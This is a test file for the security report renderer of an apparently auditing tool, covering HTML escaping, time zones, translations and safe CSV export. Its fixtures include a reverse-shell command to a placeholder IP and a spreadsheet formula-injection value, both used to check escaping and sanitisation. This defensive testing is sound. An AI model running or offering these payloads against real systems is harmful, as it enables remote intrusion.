import { MESSAGES } from './i18n';
import { alertsCsv, renderReport } from './render';
import type { ReportData } from './data';

const zero = { current: 0, previous: 0, delta: 0 };
const data: ReportData = {
  generatedAt: '2026-11-16T00:00:00.000Z', namespace: 'default',
  period: { kind: 'daily', timezone: 'Europe/Berlin', from: '2026-10-24T22:00:00.000Z', to: '2026-10-25T23:00:00.000Z', previousFrom: '2026-10-23T22:00:00.000Z', previousTo: '2026-10-24T22:00:00.000Z' },
  empty: false,
  headline: { events: { current: 10, previous: 5, delta: 5, pct: 100 }, commands: zero, hosts: zero, users: zero, alerts: { current: 1, previous: 0, delta: 1 }, alertsBySeverity: { critical: { current: 1, previous: 0, delta: 1 }, high: zero, medium: zero, low: zero } },
  daily: [], alertRules: [{ id: 'r', name: 'Reverse <shell>', severity: 'critical', count: 1, hosts: [{ key: 'web-01', count: 1 }] }], alertHosts: [],
  dangerousCommands: [{ time: '2026-10-25T20:40:00.000Z', host: 'web-01', user: 'www-data', loginUser: '', sourceIp: '', tty: '', command: 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', rule: 'Reverse <shell>', severity: 'critical', sources: ['hook'] }],
  dangerousCommandsTotal: 1,
  logins: { successes: 0, failures: 0, failuresBySourceIp: [], failuresByUser: [], newSourceIps: [] },
  privilege: [], accountChanges: [], accountChangesTotal: 0, topCommands: [], topUsers: [], topHosts: [],
  collectors: { reporting: 1, eventHosts: 1, withoutHeartbeat: [], deadletteredAfter: 0, silentHosts: [], dropping: [] },
};

describe('report rendering', () => {
  it('has every English message in Simplified Chinese', () => {
    expect(Object.keys(MESSAGES['zh-CN']).sort()).toEqual(Object.keys(MESSAGES.en).sort());
  });

  it('escapes event text in the HTML and keeps it verbatim in the text part', () => {
    const r = renderReport(data, { locale: 'en' });
    expect(r.html).toContain('Reverse &lt;shell&gt;');
    expect(r.html).toContain('bash -i &gt;&amp; /dev/tcp/1.2.3.4/4444 0&gt;&amp;1');
    expect(r.text).toContain('$ bash -i >& /dev/tcp/1.2.3.4/4444 0>&1');
    expect(r.text).not.toMatch(/<(table|td|div)/);
  });

  it('shows times in the report zone with their offset, across the DST change', () => {
    const r = renderReport(data, { locale: 'en' });
    expect(r.text).toContain('2026-10-25 00:00 +02:00 – 2026-10-26 00:00 +01:00 (Europe/Berlin)');
    expect(r.subject).toBe('auditkit security report 2026-10-25: 1 Alerts (1 Critical)');
  });

  it('says "new" against an empty previous period, names the period in the title and shows the account uid', () => {
    const r = renderReport({ ...data, accountChanges: [{ time: '2026-10-25T10:00:00.000Z', host: 'app-02', action: 'added-user-account', target: 'sysupdate', targetId: '0', group: '', by: 'mia.zhang' }], accountChangesTotal: 1 }, { locale: 'en' });
    expect(r.text).toContain('Alerts: 1 (new)');
    expect(r.text).toContain('Events: 10 (▲ +5 (+100%))');
    expect(r.text.split('\n')[0]).toBe('Daily · Security report · 2026-10-25');
    expect(r.text).toContain('added-user-account sysupdate (uid 0) (mia.zhang)');
    expect(r.text).toContain('Every host with events sent collector heartbeats.');
  });

  it('writes a CSV that spreadsheets cannot execute', () => {
    const csv = alertsCsv([{ time: '2026-10-25T20:40:00.000Z', severity: 'high', rule_id: 'r', rule_name: 'x, "y"', host: 'h', user: 'u', login_user: '', source_ip: '', command: '=cmd|calc', id: '1' }], 'UTC');
    expect(csv.startsWith('\ufefftime,severity,')).toBe(true);
    expect(csv).toContain('"x, ""y"""');
    expect(csv).toContain(`"'=cmd|calc"`);
  });
});
